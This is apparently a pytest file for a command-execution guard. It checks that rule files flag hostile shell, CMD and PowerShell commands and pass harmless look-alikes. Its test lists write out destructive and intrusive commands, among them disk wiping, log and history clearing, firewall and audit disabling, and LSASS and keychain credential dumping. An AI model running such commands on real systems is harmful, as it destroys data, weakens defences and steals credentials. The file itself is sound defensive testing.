"""The rule files of commands: every row does what it says, and twins of it pass."""

from typing import Any

import pytest
import yaml

from demur.guards.code_execution import command_rules
from demur.guards.code_execution.command_rules import powershell_patterns
from demur.guards.code_execution.event import Command, CommandConfig, Language
from demur.guards.code_execution.guard import check, find_hits
from demur.guards.code_execution.rules import COMMAND_RULES, RULE_FILES, parse_yaml

DATA = yaml.safe_load((RULE_FILES / "commands.yaml").read_text(encoding="utf-8"))
POWERSHELL = yaml.safe_load((RULE_FILES / "powershell.yaml").read_text(encoding="utf-8"))["rules"]
LANGUAGES = {"windows": Language.CMD, "cmdlets": Language.POWERSHELL}
ENTRIES = [
    pytest.param(LANGUAGES.get(family, Language.SHELL), entry, id=f"{family}: {entry['programs']}")
    for family, entries in DATA["families"].items()
    for entry in entries
]


def hit_rules(text: str, language: Language) -> list[str]:
    event = Command(text=text, language=language)
    return [located.hit.rule for located in find_hits(event, CommandConfig())]


def reported_rules(text: str, language: Language) -> list[str]:
    event = Command(text=text, language=language)
    return [finding.evidence["rule"] for finding in check(event, CommandConfig())]


@pytest.mark.parametrize(("language", "entry"), ENTRIES)
def test_an_entry_hits_its_refused_rows_and_passes_the_allowed(
    language: Language, entry: dict[str, Any]
) -> None:
    assert set(entry) <= {"programs", "rules", "refuse", "allow"}
    assert entry["programs"] == entry["programs"].lower()
    rules = [(rule, pattern) for row in entry["rules"] for rule, pattern in row.items()]
    names = {rule for rule, _ in rules}
    assert names <= set(COMMAND_RULES)
    for (rule, _), text in zip(rules, entry["refuse"], strict=True):
        assert rule in hit_rules(text, language), text
    for text in entry.get("allow", ()):
        assert not names & {*hit_rules(text, language)}, text
    # Nothing passes a program that is reported whatever its arguments.
    assert bool(entry.get("allow")) == (rules[-1][1] != "")


def test_entries_are_read_one_by_one_as_in_the_whole_file() -> None:
    whole: dict[str, list[Any]] = {}
    for entries in DATA["families"].values():
        for entry in entries:
            for program in entry["programs"].split():
                whole.setdefault(program, []).append(entry)
    parts = {
        program: [parse_yaml(text)[0] for text in texts]
        for program, texts in command_rules._entries().items()
    }
    assert parts == whole


def test_every_pattern_compiles() -> None:
    for program in command_rules._entries():
        assert command_rules._rows(program)


@pytest.mark.parametrize(
    "entry", POWERSHELL, ids=lambda entry: f"{entry['rule']}: {entry['any'][0]}"
)
def test_patterns_of_powershell(entry: dict[str, Any]) -> None:
    patterns = [pattern for rule, pattern in powershell_patterns() if rule == entry["rule"]]
    own = [pattern for pattern in patterns if pattern.pattern == "|".join(entry["any"])]
    assert entry["rule"] in COMMAND_RULES
    for text in entry["refuse"]:
        assert own[0].search(text)
        assert entry["rule"] in hit_rules(text, Language.POWERSHELL)
    assert not any(own[0].search(text) for text in entry["allow"])


def test_no_tool_is_both_for_tests_and_for_attacks() -> None:
    assert not {*DATA["tools"]["ATTACK_TOOL"].split()} & {*DATA["tools"]["TESTING_TOOL"].split()}


@pytest.mark.parametrize(
    ("text", "twin", "want"),
    [
        ("mkfs.xfs /dev/sdb", "mkfs.xfs disk.img", "OVERWRITE_DEVICE"),
        ("wipefs -a /dev/sdb", "wipefs --help", "OVERWRITE_DEVICE"),
        ("cryptsetup luksErase /dev/nvme0n1p3", "cryptsetup status x", "OVERWRITE_DEVICE"),
        ("zfs destroy -r tank/x", "zfs list", "DELETE_BACKUPS"),
        ("init 0", "init 3", "SHUT_DOWN"),
        ("iptables --flush", "iptables -L", "DEFENCE_WEAKENED"),
        ("ufw disable", "ufw enable", "DEFENCE_WEAKENED"),
        ("auditctl -e 0", "auditctl -l", "DEFENCE_OFF"),
        ("csrutil disable", "csrutil authenticated-root", "DEFENCE_OFF"),
        ("history -c", "history 5", "DELETE_LOGS"),
        ("unset HISTFILE", "unset FOO", "DELETE_LOGS"),
        ("set +o history", "set -o pipefail", "DELETE_LOGS"),
        ("security dump-keychain", "security cms -D", "CREDENTIAL_DUMP"),
        ("getent shadow", "getent hosts x", "SECRET_READ"),
        ("chattr +i x", "lsattr x", "HIDDEN_FILE"),
    ],
)
def test_a_unix_program_and_its_twin(text: str, twin: str, want: str) -> None:
    assert want in reported_rules(text, Language.SHELL)
    assert want not in reported_rules(twin, Language.SHELL)


@pytest.mark.parametrize(
    ("text", "twin", "want"),
    [
        ("reg delete HKLM\\x", "reg query HKLM\\x", "DELETE_FILE_OUTSIDE"),
        ("schtasks /create /tn x", "schtasks /query", "STARTUP_JOB"),
        ("sc config x binpath= y", "sc qc x", "SERVICE_CREATE"),
        ("net stop mpssvc", "net start", "DEFENCE_OFF"),
        ("netsh interface portproxy add v4tov4 x", "netsh interface show", "TUNNEL"),
        ("bcdedit /set {current} safeboot minimal", "bcdedit", "DELETE_BACKUPS"),
        ("wevtutil cl System", "wevtutil el", "DELETE_LOGS"),
        ("fltmc unload x", "fltmc", "DEFENCE_OFF"),
        ("takeown /f C:\\x", "dir C:\\x", "OWNERSHIP"),
        ("ntdsutil ifm", "nslookup x", "CREDENTIAL_DUMP"),
        ("procdump -ma lsass.exe", "procdump -?", "CREDENTIAL_DUMP"),
        ("bitsadmin /transfer x http://a.example y", "bitsadmin /list", "DOWNLOAD_TOOL"),
        ("rundll32 javascript:x", "notepad x", "REMOTE_SCRIPT"),
        ("wmic process call create x", "wmic os get name", "REMOTE_EXECUTION"),
        ("anydesk --silent", "notepad", "TUNNEL"),
    ],
)
def test_a_windows_program_and_its_twin(text: str, twin: str, want: str) -> None:
    assert want in reported_rules(text, Language.CMD)
    assert want not in reported_rules(twin, Language.CMD)
